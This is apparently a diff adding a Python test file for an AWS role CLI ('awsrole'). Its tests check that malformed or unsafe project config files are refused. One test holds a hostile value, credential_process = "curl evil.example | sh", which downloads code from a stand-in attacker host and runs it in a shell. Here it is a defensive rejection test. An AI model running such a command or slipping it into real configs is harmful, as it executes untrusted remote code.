@@ -1,0 +1,178 @@
+"""Files that say what can't be."""
+
+
+from failing import ALICE, file
+
+
+def refused(world, says, content):
+    """What `allow` says, or else what happens then."""
+    folder = world.project("shop", content)
+    if world.awsrole("allow", folder).code:
+        says("allow")
+    else:
+        says()
+
+
+def test_spelling(world, says):
+    """A key is misspelt."""
+    refused(world, says, file("Plain") + 'regoin = "eu-west-1"\n')
+
+
+def test_not_toml(world, says):
+    """Somebody wrote YAML."""
+    refused(world, says, "role_arn: arn:aws:iam::222222222222:role/Plain\n")
+
+
+def test_account_without_quotes(world, says):
+    """An account id is a number in TOML, and would lose its zeros."""
+    refused(world, says, file("Plain") + "account_id = 012345678901\n")
+
+
+def test_command_in_a_projects_file(world, says):
+    """A project's file would run a command."""
+    refused(world, says, file("Plain") + 'credential_process = "curl evil.example | sh"\n')
+
+
+def test_secret_in_a_projects_file(world, says):
+    """A secret key stands in the project's file."""
+    refused(world, says, file("Plain") + 'aws_secret_access_key = "x"\n')
+
+
+def test_no_role_arn(world, says):
+    """The value isn't an ARN."""
+    refused(world, says, 'role_arn = "Deploy"\nsource_profile = "alice"\n')
+
+
+def test_arn_of_a_session(world, says):
+    """The ARN of a session was copied from `aws sts get-caller-identity`."""
+    refused(world, says, 'role_arn = "arn:aws:sts::222222222222:assumed-role/Plain/alice"\nsource_profile = "alice"\n')
+
+
+def test_no_source(world, says):
+    """Nothing says whose credentials assume the role."""
+    refused(world, says, 'role_arn = "arn:aws:iam::222222222222:role/Plain"\n')
+
+
+def test_no_such_profile(world, says):
+    """A profile is misspelt."""
+    refused(world, says, file("Plain", source="alcie"))
+
+
+def test_no_such_profile_at_all(world, says):
+    """A profile that is nowhere near those that are there."""
+    refused(world, says, file("Plain", source="production-eu"))
+
+
+def test_profile_without_credentials(world, says):
+    """A profile has nothing but a region."""
+    world.config(more="[profile empty]\nregion = us-east-1\n")
+    refused(world, says, file("Plain", source="empty"))
+
+
+def test_profile_with_half_a_key(world, says):
+    """A profile lost its secret key."""
+    world.write(".aws/credentials", f"[alice]\naws_access_key_id = {ALICE['access_key_id']}\n")
+    refused(world, says, file("Plain"))
+
+
+def test_profiles_in_a_circle(world, says):
+    """Two profiles are each other's source."""
+    one = "[profile {0}]\nrole_arn = arn:aws:iam::222222222222:role/Plain\nsource_profile = {1}\n"
+    world.config(more=one.format("a", "b") + one.format("b", "a"))
+    refused(world, says, file("Plain", source="a"))
+
+
+def test_no_such_sso_session(world, says):
+    """A profile names an sso-session that isn't there."""
+    world.config(more="[profile x]\nsso_session = crop\nsso_account_id = 111111111111\nsso_role_name = Admin\n")
+    refused(world, says, file("Plain", source="x"))
+
+
+def test_aws_file_is_broken(world, says):
+    """~/.aws/config isn't what the AWS CLI reads either."""
+    world.config(more="[profile x\nregion = eu-west-1\n")
+    refused(world, says, file("Plain"))
+
+
+def test_aws_file_is_not_there(world, says):
+    """There is no ~/.aws at all: the AWS CLI was never set up."""
+    for name in ("config", "credentials"):
+        (world.home / ".aws" / name).unlink()
+    refused(world, says, file("Plain"))
+
+
+def test_duration_is_out_of_range(world, says):
+    """No role lasts a day."""
+    refused(world, says, file("Plain", duration_seconds=86400))
+
+
+def test_external_id_with_a_space(world, says):
+    """STS takes no spaces in an external ID."""
+    refused(world, says, file("Plain", external_id="shop 42"))
+
+
+def test_region_in_words(world, says):
+    """A region as the console shows it."""
+    refused(world, says, file("Plain", region="Europe (Ireland)"))
+
+
+def test_pin_of_another_account(world, says):
+    """The pin says another account than the role's."""
+    refused(world, says, file("Plain", account_id="333333333333"))
+
+
+def test_no_default_role(world, says):
+    """The file has several roles, and none is the default."""
+    refused(world, says, f'[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')
+
+
+def test_no_such_role(world, says):
+    """A role is asked for that the file doesn't have."""
+    world.shop(f'default_role = "dev"\n[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')
+    says("exec --role prdo -- true")
+
+
+def test_empty_file(world, says):
+    """The file is empty."""
+    refused(world, says, "")
+
+
+def test_two_sources(world, says):
+    """Two sources at once."""
+    refused(world, says, file("Plain") + 'credential_source = "Environment"\n')
+
+
+def test_own_config_is_broken(world, says):
+    """The person's own config.toml has a key that isn't one."""
+    world.shop(file("Plain"))
+    world.write(".config/awsrole/config.toml", 'mfa_porcess = "x"\n')
+    says()
+
+
+def test_endpoint_is_no_url(world, says):
+    """An endpoint that is no address."""
+    world.shop(file("Plain"))
+    says(env={"AWS_ENDPOINT_URL": "sts.local"})
+
+
+def test_link_to_nowhere(world, says):
+    """.awsrole.toml is a link to a file that is gone."""
+    (world.project("shop") / ".awsrole.toml").symlink_to("nowhere")
+    says()
+
+
+def test_directory_of_that_name(world, says):
+    """.awsrole.toml is a directory."""
+    (world.project("shop") / ".awsrole.toml").mkdir()
+    says()
+
+
+def test_file_is_no_text(world, says):
+    """.awsrole.toml was saved by an editor in UTF-16."""
+    refused(world, says, file("Plain").encode("utf-16"))
+
+
+def test_file_is_huge(world, says):
+    """.awsrole.toml is something else."""
+    world.project("shop", "#" * (1 << 20))
+    says.compare("$ awsrole allow", *(lambda r: (r.err, r.code))(world.awsrole("allow", cwd=world.home / "src/shop")), world.home)
